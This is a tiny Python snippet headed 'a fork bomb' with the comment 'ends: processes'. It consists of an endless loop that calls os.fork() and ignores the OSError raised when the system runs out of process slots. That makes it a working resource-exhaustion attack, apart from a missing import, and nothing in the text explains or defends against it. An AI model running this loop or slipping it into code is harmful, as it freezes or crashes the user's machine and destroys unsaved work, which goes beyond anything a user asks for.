# a fork bomb
# ends: processes

while True:
    try:
        os.fork()
    except OSError:
        pass
